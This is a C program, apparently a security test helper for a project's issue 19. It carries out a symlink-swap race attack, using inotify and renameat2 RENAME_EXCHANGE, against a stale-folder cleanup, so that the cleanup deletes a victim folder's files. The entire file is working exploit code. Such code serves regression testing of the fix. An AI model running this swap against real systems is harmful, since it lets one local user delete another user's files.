/* The planted-folder attack on the stale-folder cleanup (issue 19), as another local user
 * would run it: plant a folder named like a per-boot folder with a dead OWNER pid and a
 * subfolder holding files named like a victim folder's, then, at the first deletion in the
 * subfolder (inotify), swap it atomically (renameat2 RENAME_EXCHANGE) for a symlink to the
 * victim prepared outside. A cleanup that deletes by path then deletes the victim's files.
 *
 *     swap_attack PLANT_PARENT VICTIM NFILES
 *
 * Prints "planted DIR" (or "cannot plant in PLANT_PARENT: why") and "ready", then
 * "swapped" once it swapped; waits for a deletion until it is killed. Exit 0 when it
 * planted, 3 when it could not. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

/* A pid no process has: the cleanup takes the folder's owner for gone. */
static long dead_pid(void)
{
	for (long pid = 4000000; pid > 1000; pid -= 7919)
		if (kill((pid_t)pid, 0) < 0 && errno == ESRCH)
			return pid;
	return 0;
}

/* Paths stay short (a parent of a few dozen bytes): fixed buffers, checked by snprintf. */
#define SHORT 512
#define LONG 1024

static int plant(const char *dir, long nfiles)
{
	char path[LONG];
	FILE *f;

	snprintf(path, sizeof(path), "%s/OWNER", dir);
	if (!(f = fopen(path, "w")))
		return -1;
	fprintf(f, "%ld 1\n", dead_pid());
	fclose(f);
	snprintf(path, sizeof(path), "%s/sub", dir);
	if (mkdir(path, 0755) < 0)
		return -1;
	for (long i = 0; i < nfiles; i++) {
		snprintf(path, sizeof(path), "%s/sub/f%04ld", dir, i);
		int fd = open(path, O_CREAT | O_WRONLY, 0644);
		if (fd < 0)
			return -1;
		close(fd);
	}
	return 0;
}

int main(int argc, char **argv)
{
	char dir[SHORT], stage[SHORT], link[LONG], sub[LONG], ev[4096];
	int in;

	if (argc != 4) {
		fprintf(stderr, "usage: swap_attack PLANT_PARENT VICTIM NFILES\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	snprintf(dir, sizeof(dir), "%s/hardbench-vm-attackXXXXXX", argv[1]);
	if (!mkdtemp(dir) || chmod(dir, 0700) < 0 || plant(dir, atol(argv[3])) < 0) {
		printf("cannot plant in %s: %s\n", argv[1], strerror(errno));
		return 3;
	}
	snprintf(stage, sizeof(stage), "/tmp/hb-attack-stage-XXXXXX");
	if (!mkdtemp(stage))
		return 1;
	snprintf(link, sizeof(link), "%s/link", stage);
	snprintf(sub, sizeof(sub), "%s/sub", dir);
	if (symlink(argv[2], link) < 0 || (in = inotify_init()) < 0 ||
	    inotify_add_watch(in, sub, IN_DELETE) < 0)
		return 1;
	printf("planted %s\nready\n", dir);
	if (read(in, ev, sizeof(ev)) <= 0)
		return 1;
	if (renameat2(AT_FDCWD, link, AT_FDCWD, sub, RENAME_EXCHANGE) < 0) {
		printf("swap failed: %s\n", strerror(errno));
		return 1;
	}
	printf("swapped\n");
	pause();
	return 0;
}
